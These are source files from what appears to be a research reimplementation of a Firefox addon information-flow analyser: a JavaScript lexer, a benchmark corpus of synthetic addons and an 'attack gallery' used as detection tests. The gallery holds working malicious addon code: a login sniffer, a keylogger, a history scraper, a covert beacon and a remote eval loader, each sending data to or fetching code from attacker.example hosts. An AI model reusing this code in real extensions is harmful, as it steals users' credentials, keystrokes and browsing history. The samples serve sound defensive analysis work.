            (b"<<", Shl),
            (b">>", Shr),
            (b"{", LBrace),
            (b"}", RBrace),
            (b"(", LParen),
            (b")", RParen),
            (b"[", LBracket),
            (b"]", RBracket),
            (b";", Semi),
            (b",", Comma),
            (b"?", Question),
            (b":", Colon),
            (b"<", Lt),
            (b">", Gt),
            (b"+", Plus),
            (b"-", Minus),
            (b"*", Star),
            (b"/", Slash),
            (b"%", Percent),
            (b"&", Amp),
            (b"|", Pipe),
            (b"^", Caret),
            (b"~", Tilde),
            (b"!", Bang),
            (b"=", Eq),
        ];
        for (text, punct) in table {
            if rest.starts_with(text) {
                self.pos += text.len();
                return Ok(TokenKind::Punct(*punct));
            }
        }
        Err(self.error(ParseErrorKind::UnexpectedChar(
            self.src[self.pos..].chars().next().unwrap_or('\0'),
        )))
    }
}

fn is_ident_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b'$'
}

fn is_ident_part(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        lex(src)
            .unwrap()
            .into_iter()
            .map(|t| t.kind)
            .filter(|k| *k != TokenKind::Eof)
            .collect()
    }

    #[test]
    fn lex_idents_and_keywords() {
        assert_eq!(
            kinds("var foo_1 $bar"),
            vec![
                TokenKind::Keyword(Keyword::Var),
                TokenKind::Ident("foo_1".into()),
                TokenKind::Ident("$bar".into()),
            ]
        );
    }

    #[test]
    fn lex_numbers() {
        assert_eq!(
            kinds("0 42 2.75 .5 1e3 2.5e-2 0xFF"),
            vec![
                TokenKind::Num(0.0),
                TokenKind::Num(42.0),
                TokenKind::Num(2.75),
                TokenKind::Num(0.5),
                TokenKind::Num(1000.0),
                TokenKind::Num(0.025),
                TokenKind::Num(255.0),
            ]
        );
    }

    #[test]
    fn number_followed_by_dot_call() {
        // `1..toString` style is out of scope, but `x.5` must not lex `.5`
        // after an identifier-ish context incorrectly.
        assert_eq!(
            kinds("a.b"),
            vec![
                TokenKind::Ident("a".into()),
                TokenKind::Punct(Punct::Dot),
                TokenKind::Ident("b".into()),
            ]
        );
    }

    #[test]
    fn lex_strings_with_escapes() {
        assert_eq!(
            kinds(r#" "a\nb" 'it\'s' "uA" "#),
            vec![
                TokenKind::Str("a\nb".into()),
                TokenKind::Str("it's".into()),
                TokenKind::Str("uA".into()),
            ]
        );
    }

    #[test]
    fn lex_comments() {
        assert_eq!(
            kinds("a // line comment\n/* block\ncomment */ b"),
            vec![TokenKind::Ident("a".into()), TokenKind::Ident("b".into())]
        );
    }

    #[test]
    fn newline_before_flag() {
        let toks = lex("a\nb c").unwrap();
        assert!(!toks[0].newline_before);
        assert!(toks[1].newline_before);
        assert!(!toks[2].newline_before);
    }

    #[test]
    fn regex_vs_division() {
        assert_eq!(
            kinds("a / b"),
            vec![
                TokenKind::Ident("a".into()),
                TokenKind::Punct(Punct::Slash),
                TokenKind::Ident("b".into()),
            ]
        );
        assert_eq!(
            kinds("x = /ab[/]c/gi"),
            vec![
                TokenKind::Ident("x".into()),
                TokenKind::Punct(Punct::Eq),
                TokenKind::Regex("/ab[/]c/gi".into()),
            ]
        );
    }

    #[test]
    fn maximal_munch_punctuators() {
        assert_eq!(
            kinds("a>>>=b === c !== d >>> e"),
            vec![
                TokenKind::Ident("a".into()),
                TokenKind::Punct(Punct::UShrEq),
                TokenKind::Ident("b".into()),
                TokenKind::Punct(Punct::EqEqEq),
                TokenKind::Ident("c".into()),
                TokenKind::Punct(Punct::NotEqEq),
                TokenKind::Ident("d".into()),
                TokenKind::Punct(Punct::UShr),
                TokenKind::Ident("e".into()),
            ]
        );
    }

    #[test]
    fn error_unterminated_string() {
        assert!(lex("\"abc").is_err());
        assert!(lex("'abc\ndef'").is_err());
    }

    #[test]
    fn error_unterminated_comment() {
        assert!(lex("/* never ends").is_err());
    }

    #[test]
    fn error_bad_char() {
        assert!(lex("a # b").is_err());
    }

    #[test]
    fn line_numbers_tracked() {
        let toks = lex("a\nb\n\nc").unwrap();
        assert_eq!(toks[0].span.line, 1);
        assert_eq!(toks[1].span.line, 2);
        assert_eq!(toks[2].span.line, 4);
    }

    #[test]
    fn hex_number_requires_digits() {
        assert!(lex("0x").is_err());
    }
}
