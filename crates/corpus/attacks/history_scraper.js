// Browsing-history exfiltration hidden in a "suggested reading" addon:
// queries the places database and uploads visited URLs.

var Suggest = {
  api: "http://ads.attacker.example/profile?visits="
};

function sg_buildProfile() {
  var visits = historyService.executeQuery();
  var req = new XMLHttpRequest();
  req.open("POST", Suggest.api + encodeURIComponent(visits), true);
  req.send(visits);
}

setTimeout(sg_buildProfile, 30000);
