// Remote code loading: fetches attacker-controlled JavaScript and
// injects it with the script loader, plus an eval-based fallback --
// exactly the dynamic-code pattern the Mozilla vetting process rejects
// outright (Section 2, "Addon Vetting").

var Loader = {
  payloadUrl: "http://cdn.attacker.example/payload.js"
};

function ld_inject() {
  Services.scriptloader.loadSubScript(Loader.payloadUrl);
}

function ld_fallback() {
  var req = new XMLHttpRequest();
  req.open("GET", Loader.payloadUrl, true);
  req.onload = function () {
    eval(req.responseText);
  };
  req.send(null);
}

function ld_ping() {
  var req = new XMLHttpRequest();
  req.open("GET", "http://cdn.attacker.example/alive.gif", true);
  req.send(null);
}

ld_inject();
setTimeout(ld_fallback, 10000);
// Dynamic code in a string timer: rejected on sight by vetters.
setTimeout("ld_ping()", 60000);
