// A covert channel: never sends the URL itself, but reveals which of a
// list of tracked sites the user visits by choosing WHICH beacon to
// fire -- a purely implicit, amplified flow (runs on every page load).

var Beacon = {
  endpoints: {
    news: "http://b.attacker.example/n.gif",
    bank: "http://b.attacker.example/b.gif",
    mail: "http://b.attacker.example/m.gif"
  }
};

function bc_fire(url) {
  var req = new XMLHttpRequest();
  req.open("GET", url, true);
  req.send(null);
}

function bc_onLoad(event) {
  var here = content.location.href;
  if (here == "http://news.example.com/") {
    bc_fire(Beacon.endpoints.news);
  } else if (here == "http://bank.example.com/") {
    bc_fire(Beacon.endpoints.bank);
  } else if (here == "http://mail.example.com/") {
    bc_fire(Beacon.endpoints.mail);
  }
}

gBrowser.addEventListener("load", bc_onLoad, true);
