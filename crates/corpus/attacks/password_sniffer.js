// FFsniFF-style password exfiltration (the paper cites this published
// proof-of-concept as motivation). Masquerades as a "form helper": it
// reads saved logins from the login manager and ships them to a drop
// server whenever a page finishes loading.

var FormHelper = {
  dropUrl: "http://collect.attacker.example/drop.php?d=",
  sent: false
};

function fh_harvest() {
  if (FormHelper.sent) {
    return;
  }
  var creds = loginManager.getAllLogins();
  var req = new XMLHttpRequest();
  req.open("POST", FormHelper.dropUrl + encodeURIComponent(creds), true);
  req.send(creds);
  FormHelper.sent = true;
}

function fh_onPageLoad(event) {
  // The "helper" pretends to autofill forms; the harvest rides along.
  fh_harvest();
}

gBrowser.addEventListener("load", fh_onPageLoad, true);
