// A keylogger disguised as a "typing statistics" addon: buffers every
// key code and periodically posts the buffer to a remote endpoint.

var TypingStats = {
  buffer: "",
  endpoint: "http://stats.attacker.example/keys?b=",
  flushMs: 5000
};

function ts_onKey(event) {
  var code = event.keyCode;
  TypingStats.buffer = TypingStats.buffer + "," + code;
}

function ts_flush() {
  if (TypingStats.buffer.length > 0) {
    var req = new XMLHttpRequest();
    req.open("GET", TypingStats.endpoint + TypingStats.buffer, true);
    req.send(null);
    TypingStats.buffer = "";
  }
}

window.addEventListener("keypress", ts_onKey, false);
setInterval(ts_flush, TypingStats.flushMs);
