//! The attack gallery: proof-of-concept malicious addons modeled on the
//! published exploits the paper's motivation cites ("proof-of-concept
//! malicious addons have been developed that demonstrate how easily such
//! privileges can be misused ... the Mozilla vetting team has seen a
//! number of submitted addons that contain malicious code copied from
//! these published exploits", Section 2).
//!
//! Each sample documents the signature evidence a vetter would see; the
//! integration test `tests/attack_gallery.rs` asserts the analysis
//! surfaces exactly that evidence.

use jsanalysis::{SinkKind, SourceKind};

/// What the inferred signature must expose for an attack to be caught.
#[derive(Debug, Clone)]
pub enum Evidence {
    /// A flow from the source into a network send whose domain mentions
    /// the given host, at a flow type at least as strong as `at_least`
    /// (1 = strongest / explicit).
    Flow {
        /// The stolen source.
        source: SourceKind,
        /// Substring of the exfiltration domain.
        domain: &'static str,
        /// Weakest acceptable flow type number (1-8).
        at_least: u8,
    },
    /// Use of a restricted dynamic-code API.
    Api(&'static str),
    /// A sink of the given kind reaching the given domain.
    Sink {
        /// The sink kind.
        kind: SinkKind,
        /// Substring of the domain.
        domain: &'static str,
    },
}

/// One malicious sample.
pub struct Attack {
    /// Short name.
    pub name: &'static str,
    /// What the attack does and how it hides.
    pub description: &'static str,
    /// Addon source.
    pub source: &'static str,
    /// Signature evidence the analysis must surface.
    pub evidence: Vec<Evidence>,
}

/// The gallery.
pub fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "password-sniffer",
            description: "FFsniFF-style: uploads saved logins on page load",
            source: include_str!("../attacks/password_sniffer.js"),
            evidence: vec![Evidence::Flow {
                source: SourceKind::Password,
                domain: "collect.attacker.example",
                at_least: 2,
            }],
        },
        Attack {
            name: "keylogger",
            description: "buffers keyCodes, flushes to a stats endpoint",
            source: include_str!("../attacks/keylogger.js"),
            evidence: vec![Evidence::Flow {
                source: SourceKind::Key,
                domain: "stats.attacker.example",
                at_least: 2,
            }],
        },
        Attack {
            name: "history-scraper",
            description: "uploads browsing history for ad profiling",
            source: include_str!("../attacks/history_scraper.js"),
            evidence: vec![Evidence::Flow {
                source: SourceKind::History,
                domain: "ads.attacker.example",
                at_least: 2,
            }],
        },
        Attack {
            name: "covert-url-beacon",
            description: "reveals visited sites by beacon choice (implicit only)",
            source: include_str!("../attacks/covert_url_beacon.js"),
            evidence: vec![Evidence::Flow {
                source: SourceKind::Url,
                domain: "attacker.example",
                at_least: 3, // amplified implicit: never explicit
            }],
        },
        Attack {
            name: "dynamic-loader",
            description: "remote script injection + eval fallback",
            source: include_str!("../attacks/dynamic_loader.js"),
            evidence: vec![
                Evidence::Api("Services.scriptloader.loadSubScript"),
                Evidence::Api("eval"),
                Evidence::Api("setTimeout$string"),
                Evidence::Sink {
                    kind: SinkKind::ScriptLoader,
                    domain: "cdn.attacker.example",
                },
            ],
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gallery_parses() {
        for a in attacks() {
            assert!(
                jsparser::parse(a.source).is_ok(),
                "{} fails to parse",
                a.name
            );
        }
    }

    #[test]
    fn five_attacks() {
        assert_eq!(attacks().len(), 5);
    }
}
