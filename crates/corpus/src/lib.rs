//! The benchmark corpus: ten addons reproducing the paper's Table 1
//! suite.
//!
//! The original Mozilla addons are pre-Jetpack XUL addons that are no
//! longer redistributable, so each benchmark here is a synthetic addon
//! written in the analyzed JavaScript subset that reproduces the
//! *documented behavior and flow structure* of its paper counterpart:
//! the same category (A/B/C), the same kind of information flows, and --
//! crucially -- the same evaluation outcome driver (e.g.
//! VKVideoDownloader's three player domains joining to an unrepresentable
//! prefix).
//!
//! Each [`Addon`] carries its source, paper metadata (size in Rhino AST
//! nodes, download count, paper verdict), the *manual signature* written
//! from its developer summary (Section 6.2), and ground truth for
//! classifying extra inferred flows as real (`leak`) or spurious
//! (`fail`) -- the role manual inspection plays in the paper.

#![warn(missing_docs)]

pub mod attacks;

use jsanalysis::{SinkKind, SourceKind};
use jssig::{FlowEntry, FlowType, ManualEntry, ManualSignature, SigSink, Verdict};

/// The paper's addon categories (Section 6.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Category {
    /// Explicitly sends the current URL to a specified domain.
    A,
    /// Implicitly sends information about the URL / key presses.
    B,
    /// Communicates with a domain without sending interesting information.
    C,
}

impl std::fmt::Display for Category {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Category::A => write!(f, "A"),
            Category::B => write!(f, "B"),
            Category::C => write!(f, "C"),
        }
    }
}

/// One benchmark addon.
pub struct Addon {
    /// Addon name as listed in Table 1.
    pub name: &'static str,
    /// The developer-provided summary ("Listed Purpose").
    pub listed_purpose: &'static str,
    /// Category per Section 6.2.
    pub category: Category,
    /// Size of the *original* addon in Rhino AST nodes (Table 1).
    pub paper_ast_nodes: u32,
    /// Download count reported in Table 1.
    pub downloads: u32,
    /// The verdict Table 2 reports for the original addon.
    pub paper_verdict: Verdict,
    /// JavaScript source of the synthetic reproduction.
    pub source: &'static str,
    /// The manual signature written from the developer summary.
    pub manual: ManualSignature,
    /// Ground truth: is this extra inferred flow entry real?
    pub real_extra_flow: fn(&FlowEntry) -> bool,
    /// Ground truth: is this extra inferred sink real communication?
    pub real_extra_sink: fn(&SigSink) -> bool,
}

fn t(n: u8) -> FlowType {
    FlowType(n - 1)
}

fn url_send(domain: &str, flow: FlowType) -> ManualEntry {
    ManualEntry {
        source: SourceKind::Url,
        sink_kind: SinkKind::Send,
        domain: Some(domain.to_owned()),
        flow,
    }
}

fn never_flow(_: &FlowEntry) -> bool {
    false
}

fn never_sink(_: &SigSink) -> bool {
    false
}

/// The full benchmark suite, in Table 1 order.
pub fn addons() -> Vec<Addon> {
    vec![
        Addon {
            name: "LivePagerank",
            listed_purpose: "Display PageRank for active URL",
            category: Category::A,
            paper_ast_nodes: 3900,
            downloads: 515_671,
            paper_verdict: Verdict::Pass,
            source: include_str!("../addons/livepagerank.js"),
            manual: ManualSignature {
                entries: vec![url_send("toolbarqueries.google.com", t(1))],
                plain_sinks: vec![],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "LessSpamPlease",
            listed_purpose: "Generates a reusable anonymous real mail address",
            category: Category::A,
            paper_ast_nodes: 3696,
            downloads: 194_604,
            paper_verdict: Verdict::Fail,
            source: include_str!("../addons/lessspamplease.js"),
            manual: ManualSignature {
                entries: vec![url_send("api.lesspamplease.org", t(1))],
                plain_sinks: vec![],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "YoutubeDownloader",
            listed_purpose: "Youtube video downloader",
            category: Category::B,
            paper_ast_nodes: 3755,
            downloads: 7_600_428,
            paper_verdict: Verdict::Leak,
            source: include_str!("../addons/youtubedownloader.js"),
            manual: ManualSignature {
                entries: vec![url_send("youtube.com", t(3))],
                plain_sinks: vec![],
            },
            // The video id computed from the URL and sent to youtube.com
            // is a real explicit flow the summary never mentions.
            real_extra_flow: |e| {
                e.source == SourceKind::Url
                    && e.sink.kind == SinkKind::Send
                    && e.sink
                        .domain
                        .known_text()
                        .is_some_and(|d| d.contains("youtube.com"))
            },
            real_extra_sink: never_sink,
        },
        Addon {
            name: "VKVideoDownloader",
            listed_purpose: "Downloads videos from sites",
            category: Category::B,
            paper_ast_nodes: 2016,
            downloads: 459_028,
            paper_verdict: Verdict::Fail,
            source: include_str!("../addons/vkvideodownloader.js"),
            manual: ManualSignature {
                entries: vec![
                    url_send("vkontakte.ru", t(3)),
                    url_send("rutube.ru", t(3)),
                    url_send("video.mail.ru", t(3)),
                ],
                plain_sinks: vec![],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "HyperTranslate",
            listed_purpose: "Translates selected text when key shorts are pressed",
            category: Category::B,
            paper_ast_nodes: 3576,
            downloads: 62_633,
            paper_verdict: Verdict::Pass,
            source: include_str!("../addons/hypertranslate.js"),
            manual: ManualSignature {
                entries: vec![ManualEntry {
                    source: SourceKind::Key,
                    sink_kind: SinkKind::Send,
                    domain: Some("translate.google.com".to_owned()),
                    flow: t(3),
                }],
                plain_sinks: vec![],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "Chess.comNotifier",
            listed_purpose: "Notifies your turn on chess.com",
            category: Category::C,
            paper_ast_nodes: 1079,
            downloads: 2_402,
            paper_verdict: Verdict::Pass,
            source: include_str!("../addons/chessnotifier.js"),
            manual: ManualSignature {
                entries: vec![],
                plain_sinks: vec![(SinkKind::Send, "chess.com".to_owned())],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "CoffeePodsDeals",
            listed_purpose: "Indicates coffee pods for sale",
            category: Category::C,
            paper_ast_nodes: 1670,
            downloads: 1_158,
            paper_verdict: Verdict::Pass,
            source: include_str!("../addons/coffeepodsdeals.js"),
            manual: ManualSignature {
                entries: vec![],
                plain_sinks: vec![(SinkKind::Send, "coffeepodsdeals.com".to_owned())],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "oDeskJobWatcher",
            listed_purpose: "Indicates oDesk job opening",
            category: Category::C,
            paper_ast_nodes: 609,
            downloads: 8_279,
            paper_verdict: Verdict::Pass,
            source: include_str!("../addons/odeskjobwatcher.js"),
            manual: ManualSignature {
                entries: vec![],
                plain_sinks: vec![(SinkKind::Send, "odesk.com".to_owned())],
            },
            real_extra_flow: never_flow,
            real_extra_sink: never_sink,
        },
        Addon {
            name: "PinPoints",
            listed_purpose: "Save clips (addresses) from web text",
            category: Category::C,
            paper_ast_nodes: 2146,
            downloads: 7_042,
            paper_verdict: Verdict::Leak,
            source: include_str!("../addons/pinpoints.js"),
            manual: ManualSignature {
                entries: vec![],
                plain_sinks: vec![(SinkKind::Send, "yourpinpoints.com".to_owned())],
            },
            real_extra_flow: never_flow,
            // The maps.google.com geocoding traffic is real communication
            // only documented in the addon's fine print.
            real_extra_sink: |s| {
                s.kind == SinkKind::Send
                    && s.domain
                        .known_text()
                        .is_some_and(|d| d.contains("maps.google.com"))
            },
        },
        Addon {
            name: "GoogleTransliterate",
            listed_purpose: "Allows user to type in Indian languages",
            category: Category::C,
            paper_ast_nodes: 4270,
            downloads: 77_413,
            paper_verdict: Verdict::Leak,
            source: include_str!("../addons/googletransliterate.js"),
            manual: ManualSignature {
                entries: vec![],
                plain_sinks: vec![(SinkKind::Send, "google.com".to_owned())],
            },
            // The about:blank check is a real implicit URL flow.
            real_extra_flow: |e| e.source == SourceKind::Url,
            real_extra_sink: never_sink,
        },
    ]
}

/// Looks up a benchmark by name.
pub fn addon_by_name(name: &str) -> Option<Addon> {
    addons().into_iter().find(|a| a.name == name)
}

/// The running example of the paper's Figure 1, adapted to the analyzed
/// environment (see `figure1_preamble`). Used by the Figure 2 test and
/// the `figure2` bench binary.
pub const FIGURE1: &str = r#"var doc = { loc: content.location.href };
var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && doc.loc != arr[i]) {
  i++;
  count++;
}
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch (x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch (x) {}
"#;

/// Bindings Figure 1 assumes: `send` posts over the network, `func` may
/// be undefined, `obj` may be an object or undefined, `getString` returns
/// an unknown string.
pub const FIGURE1_PREAMBLE: &str = r#"var send = function (payload) {
  var r = XHRWrapper("http://sink.example.com/collect");
  r.send(payload);
};
var getString = function () { return JSON.stringify(Math.random()); };
var func; if (Math.random() < 0.5) { func = function () {}; }
var obj; if (Math.random() < 0.5) { obj = {}; }
"#;

/// The complete Figure 1 example (preamble + program).
pub fn figure1_source() -> String {
    format!("{FIGURE1_PREAMBLE}{FIGURE1}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ten_addons_in_table_order() {
        let all = addons();
        assert_eq!(all.len(), 10);
        assert_eq!(all[0].name, "LivePagerank");
        assert_eq!(all[9].name, "GoogleTransliterate");
    }

    #[test]
    fn category_counts_match_table_1() {
        let all = addons();
        let a = all.iter().filter(|x| x.category == Category::A).count();
        let b = all.iter().filter(|x| x.category == Category::B).count();
        let c = all.iter().filter(|x| x.category == Category::C).count();
        assert_eq!((a, b, c), (2, 3, 5));
    }

    #[test]
    fn paper_verdict_counts_match_table_2() {
        let all = addons();
        let pass = all
            .iter()
            .filter(|x| x.paper_verdict == Verdict::Pass)
            .count();
        let fail = all
            .iter()
            .filter(|x| x.paper_verdict == Verdict::Fail)
            .count();
        let leak = all
            .iter()
            .filter(|x| x.paper_verdict == Verdict::Leak)
            .count();
        assert_eq!((pass, fail, leak), (5, 2, 3));
    }

    #[test]
    fn all_sources_parse() {
        for addon in addons() {
            let parsed = jsparser::parse(addon.source);
            assert!(parsed.is_ok(), "{} fails to parse: {:?}", addon.name, parsed.err());
        }
    }

    #[test]
    fn sizes_are_nontrivial() {
        for addon in addons() {
            let prog = jsparser::parse(addon.source).unwrap();
            let nodes = jsparser::count_nodes(&prog);
            assert!(
                nodes > 100,
                "{} suspiciously small: {} AST nodes",
                addon.name,
                nodes
            );
        }
    }

    #[test]
    fn lookup_by_name() {
        assert!(addon_by_name("PinPoints").is_some());
        assert!(addon_by_name("NotAnAddon").is_none());
    }
}
