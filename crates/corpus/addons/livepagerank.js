// LivePageRank -- "Display PageRank for active URL"
//
// Synthetic reproduction of the paper's category A benchmark: the addon
// explicitly sends the current URL to toolbarqueries.google.com to fetch
// its PageRank and shows the result in a toolbar badge.

var LivePageRank = {
  serviceBase: "http://toolbarqueries.google.com/tbr?client=navclient&features=Rank&q=",
  lastUrl: null,
  lastRank: null,
  pollDelayMs: 1500,
  enabled: true,
  badgeStates: {
    unknown: "PR ?",
    loading: "PR ...",
    error: "PR !"
  }
};

function lpr_readPrefs() {
  var on = Services.prefs.getBoolPref("extensions.livepagerank.enabled");
  if (on === false) {
    LivePageRank.enabled = false;
  }
  var delay = Services.prefs.getCharPref("extensions.livepagerank.delay");
  if (delay) {
    LivePageRank.pollDelayMs = parseInt(delay, 10);
  }
}

function lpr_setBadge(text) {
  var badge = document.getElementById("lpr-toolbar-badge");
  if (badge) {
    badge.value = text;
  }
}

function lpr_checksum(query) {
  // The classic toolbar checksum, simplified: a rolling hash over the
  // query string length and a magic seed.
  var seed = 16909125;
  var i = 0;
  var hash = seed;
  var len = query.length;
  while (i < len) {
    hash = (hash ^ (hash << 5)) + i;
    hash = hash & 0x7fffffff;
    i = i + 1;
  }
  return hash;
}

function lpr_parseRank(body) {
  // Response format: "Rank_1:1:6"
  var marker = body.indexOf("Rank_");
  if (marker < 0) {
    return null;
  }
  var tail = body.substring(marker + 9);
  var rank = parseInt(tail, 10);
  if (isNaN(rank)) {
    return null;
  }
  return rank;
}

function lpr_displayRank(rank) {
  if (rank === null) {
    lpr_setBadge(LivePageRank.badgeStates.unknown);
  } else {
    lpr_setBadge("PR " + rank);
  }
  LivePageRank.lastRank = rank;
}

function lpr_fetchRank() {
  if (!LivePageRank.enabled) {
    return;
  }
  // The explicit flow the manual signature documents: the active URL is
  // appended to the query and sent over the network.
  var url = content.location.href;
  if (!url) {
    lpr_setBadge(LivePageRank.badgeStates.unknown);
    return;
  }
  if (url == LivePageRank.lastUrl) {
    return;
  }
  LivePageRank.lastUrl = url;
  lpr_setBadge(LivePageRank.badgeStates.loading);

  var check = lpr_checksum(url);
  var query = LivePageRank.serviceBase + encodeURIComponent(url) + "&ch=" + check;
  var req = new XMLHttpRequest();
  req.open("GET", query, true);
  req.onreadystatechange = function () {
    if (req.readyState == 4) {
      if (req.status == 200) {
        lpr_displayRank(lpr_parseRank(req.responseText));
      } else {
        lpr_setBadge(LivePageRank.badgeStates.error);
      }
    }
  };
  req.send(null);
}

function lpr_onPageLoad(event) {
  lpr_fetchRank();
}

function lpr_onTabSelect(event) {
  lpr_fetchRank();
}

function lpr_install() {
  lpr_readPrefs();
  gBrowser.addEventListener("load", lpr_onPageLoad, true);
  gBrowser.addEventListener("TabSelect", lpr_onTabSelect, false);
  lpr_setBadge(LivePageRank.badgeStates.unknown);
}

lpr_install();

// --- Localization -----------------------------------------------------

var lprLocale = {
  en: {
    badgeTooltip: "PageRank of the current page",
    menuRefresh: "Refresh rank now",
    menuHistory: "Show rank history",
    menuOptions: "LivePageRank options",
    errNetwork: "Could not reach the ranking service",
    errDisabled: "LivePageRank is disabled",
    rankUnknown: "Rank unknown for this page"
  },
  de: {
    badgeTooltip: "PageRank der aktuellen Seite",
    menuRefresh: "Rang jetzt aktualisieren",
    menuHistory: "Rangverlauf anzeigen",
    menuOptions: "LivePageRank-Einstellungen",
    errNetwork: "Ranking-Dienst nicht erreichbar",
    errDisabled: "LivePageRank ist deaktiviert",
    rankUnknown: "Rang dieser Seite unbekannt"
  },
  fr: {
    badgeTooltip: "PageRank de la page actuelle",
    menuRefresh: "Actualiser le classement",
    menuHistory: "Afficher l'historique",
    menuOptions: "Options de LivePageRank",
    errNetwork: "Service de classement injoignable",
    errDisabled: "LivePageRank est désactivé",
    rankUnknown: "Classement inconnu"
  }
};

function lpr_t(key) {
  var lang = Services.prefs.getCharPref("general.useragent.locale");
  var table = lprLocale.en;
  if (lang == "de") {
    table = lprLocale.de;
  } else if (lang == "fr") {
    table = lprLocale.fr;
  }
  var text = table[key];
  if (!text) {
    text = lprLocale.en[key];
  }
  if (!text) {
    text = key;
  }
  return text;
}

// --- Rank history ------------------------------------------------------

var lprHistory = {
  entries: [],
  capacity: 50,
  position: 0
};

function lpr_historyPush(rank) {
  if (lprHistory.entries.length < lprHistory.capacity) {
    lprHistory.entries.push(rank);
  } else {
    lprHistory.entries[lprHistory.position] = rank;
    lprHistory.position = lprHistory.position + 1;
    if (lprHistory.position >= lprHistory.capacity) {
      lprHistory.position = 0;
    }
  }
}

function lpr_historyAverage() {
  var n = lprHistory.entries.length;
  if (n == 0) {
    return null;
  }
  var sum = 0;
  var i = 0;
  while (i < n) {
    var v = lprHistory.entries[i];
    if (typeof v == "number") {
      sum = sum + v;
    }
    i = i + 1;
  }
  return sum / n;
}

function lpr_historySummary() {
  var avg = lpr_historyAverage();
  if (avg === null) {
    return lpr_t("rankUnknown");
  }
  return "avg PR " + avg;
}

// --- Toolbar menu -------------------------------------------------------

function lpr_buildMenu() {
  var menu = document.getElementById("lpr-menu");
  if (!menu) {
    return;
  }
  var refresh = document.createElement("menuitem");
  refresh.value = lpr_t("menuRefresh");
  refresh.addEventListener("command", function (e) {
    LivePageRank.lastUrl = null;
    lpr_fetchRank();
  }, false);

  var history = document.createElement("menuitem");
  history.value = lpr_t("menuHistory");
  history.addEventListener("command", function (e) {
    lpr_setBadge(lpr_historySummary());
  }, false);

  var options = document.createElement("menuitem");
  options.value = lpr_t("menuOptions");
}

// --- Badge coloring ------------------------------------------------------

function lpr_badgeColor(rank) {
  if (rank === null) {
    return "gray";
  }
  if (rank >= 8) {
    return "green";
  }
  if (rank >= 5) {
    return "olive";
  }
  if (rank >= 2) {
    return "orange";
  }
  return "red";
}

function lpr_applyBadgeStyle(rank) {
  var badge = document.getElementById("lpr-toolbar-badge");
  if (badge) {
    badge.color = lpr_badgeColor(rank);
  }
}

// Hook the extras into the existing pipeline.
var lpr_originalDisplay = lpr_displayRank;
function lpr_displayRankExtended(rank) {
  lpr_originalDisplay(rank);
  lpr_historyPush(rank);
  lpr_applyBadgeStyle(rank);
}

lpr_buildMenu();
