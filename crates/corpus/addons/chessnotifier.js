// Chess.comNotifier -- "Notifies your turn on chess.com"
//
// Synthetic reproduction of the paper's category C benchmark: the addon
// polls chess.com for game status and shows a badge when it is the user's
// turn. It communicates with chess.com but sends no interesting
// information -- the manual signature is the bare sink entry
// send(chess.com).

var ChessNotifier = {
  statusEndpoint: "http://www.chess.com/api/echess/my-move-count?plain=1",
  pollIntervalMs: 60000,
  pendingGames: 0,
  soundEnabled: true,
  badge: {
    none: "",
    some: "!",
    error: "x"
  }
};

function chn_setBadge(text) {
  var badge = document.getElementById("chn-turn-badge");
  if (badge) {
    badge.value = text;
  }
}

function chn_notify(count) {
  ChessNotifier.pendingGames = count;
  if (count > 0) {
    chn_setBadge(ChessNotifier.badge.some);
    if (ChessNotifier.soundEnabled) {
      chn_playSound();
    }
  } else {
    chn_setBadge(ChessNotifier.badge.none);
  }
}

function chn_playSound() {
  var player = document.getElementById("chn-ding");
  if (player) {
    player.value = "play";
  }
}

function chn_parseCount(body) {
  var n = parseInt(body, 10);
  if (isNaN(n)) {
    return 0;
  }
  return n;
}

function chn_poll() {
  var req = new XMLHttpRequest();
  req.open("GET", ChessNotifier.statusEndpoint, true);
  req.onload = function () {
    if (req.status == 200) {
      chn_notify(chn_parseCount(req.responseText));
    } else {
      chn_setBadge(ChessNotifier.badge.error);
    }
  };
  req.send(null);
}

function chn_readPrefs() {
  var sound = Services.prefs.getBoolPref("extensions.chessnotifier.sound");
  if (sound === false) {
    ChessNotifier.soundEnabled = false;
  }
}

function chn_install() {
  chn_readPrefs();
  setInterval(chn_poll, ChessNotifier.pollIntervalMs);
  chn_poll();
  chn_setBadge(ChessNotifier.badge.none);
}

chn_install();

// --- Game list rendering ------------------------------------------------------

var chnGames = {
  list: [],
  lastUpdated: null
};

function chn_renderGameRow(game) {
  return game.opponent + " - " + game.timeLeft + " left";
}

function chn_renderGameList() {
  var box = document.getElementById("chn-game-list");
  if (!box) {
    return;
  }
  if (chnGames.list.length == 0) {
    box.value = "No games waiting";
    return;
  }
  var rows = [];
  var i = 0;
  while (i < chnGames.list.length) {
    rows.push(chn_renderGameRow(chnGames.list[i]));
    i = i + 1;
  }
  box.value = rows.join("\n");
}

// --- Time formatting ------------------------------------------------------------

function chn_formatHours(totalMinutes) {
  var hours = 0;
  var minutes = totalMinutes;
  while (minutes >= 60) {
    minutes = minutes - 60;
    hours = hours + 1;
  }
  if (hours > 0) {
    return hours + "h " + minutes + "m";
  }
  return minutes + "m";
}

function chn_describeDeadline(minutesLeft) {
  if (minutesLeft <= 0) {
    return "time expired";
  }
  if (minutesLeft < 60) {
    return "less than an hour";
  }
